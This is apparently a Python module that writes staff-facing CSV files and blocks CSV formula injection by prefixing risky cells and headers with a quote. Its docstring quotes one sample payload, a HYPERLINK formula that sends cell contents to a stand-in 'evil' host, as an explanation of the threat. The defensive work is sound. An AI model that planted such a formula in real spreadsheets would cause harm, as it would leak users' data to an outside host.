"""The one writer of CSV files meant for people (staff open them in Excel, LibreOffice, Google Sheets).

Cells can hold source text (a patient's name, a note, a destination's error text), and a cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by spreadsheet
programs (``=HYPERLINK("http://evil/?"&A1, "open")`` sends data away). Following OWASP's "CSV
Injection" rule (https://owasp.org/www-community/attacks/CSV_Injection), such cells are prefixed
with a single quote, which the spreadsheet shows as text. Plain numbers (``-12.50``, ``+3``,
``1e-05``) are left as they are: they cannot run anything and staff read them as numbers. Header
names get the same treatment. Neutralising is vectorised (pyarrow compute: two regular expressions
per text column).

Machine-read CSVs that the project reads back (``delta/deletions``, the field diff's per-target
parts) and the Salesforce Bulk API upload CSV are not written here: they must round-trip exactly.
Files given as paths are written atomically (a ``.tmp`` file renamed into place).
"""

from __future__ import annotations

from pathlib import Path
from typing import IO, Any, overload

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

__all__ = ["neutralise", "write_staff_csv"]

_RISKY = r"^[=+\-@\t\r]"
_NUMBER = r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$"


def _text(values: pd.Series) -> pa.Array:
    try:
        return pa.array(values, type=pa.string(), from_pandas=True)
    except (pa.ArrowInvalid, pa.ArrowTypeError):  # mixed Python types: their text, as to_csv writes it
        return pa.array(values.astype("string"), type=pa.string(), from_pandas=True)


def _risky(text: pa.Array) -> pa.Array:
    """Cells a spreadsheet would run: starting with a trigger character and not a plain number."""
    first = pc.fill_null(pc.match_substring_regex(text, _RISKY), False)
    return pc.and_(first, pc.invert(pc.fill_null(pc.match_substring_regex(text, _NUMBER), False)))


def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) that a spreadsheet would run as a
    formula start with ``'``. Non-text columns (numbers, booleans, timestamps) are unchanged.
    Vectorised with pyarrow compute (two regular expressions per text column)."""
    out = frame.copy(deep=False)  # columns are replaced, never written into
    for col in frame.columns:
        s = frame[col]
        if not (pd.api.types.is_object_dtype(s) or pd.api.types.is_string_dtype(s)):
            continue
        text = _text(s)
        risky = _risky(text)
        if pc.any(risky).as_py():
            fixed = pc.if_else(risky, pc.utf8_replace_slice(text, start=0, stop=0, replacement="'"), text)
            out[col] = pd.Series(fixed.to_pandas(), index=frame.index, dtype=object)  # nulls stay empty cells
    names = [str(c) for c in frame.columns]
    flagged = _risky(pa.array(names, type=pa.string())).to_pylist()
    if any(flagged):
        out.columns = ["'" + n if r else n for n, r in zip(names, flagged, strict=True)]
    return out


@overload
def write_staff_csv(frame: pd.DataFrame, target: str | Path, **to_csv: Any) -> Path: ...
@overload
def write_staff_csv(frame: pd.DataFrame, target: IO[str], **to_csv: Any) -> None: ...
def write_staff_csv(frame: pd.DataFrame, target: str | Path | IO[str], **to_csv: Any) -> Path | None:
    """Write ``frame`` as CSV for people: ``neutralise`` d, ``index=False`` unless given.

    ``target``: a path (written atomically; the parent folder is created; returns the path) or an
    open text file (e.g. one chunk of a streamed file with ``header=False``; returns None).
    ``to_csv``: further ``DataFrame.to_csv`` arguments. Raises OSError when the file cannot be written.
    """
    to_csv.setdefault("index", False)
    safe = neutralise(frame)
    if not isinstance(target, (str, Path)):
        safe.to_csv(target, **to_csv)
        return None
    path = Path(target)
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(path.name + ".tmp")
    safe.to_csv(tmp, **to_csv)
    tmp.replace(path)
    return path
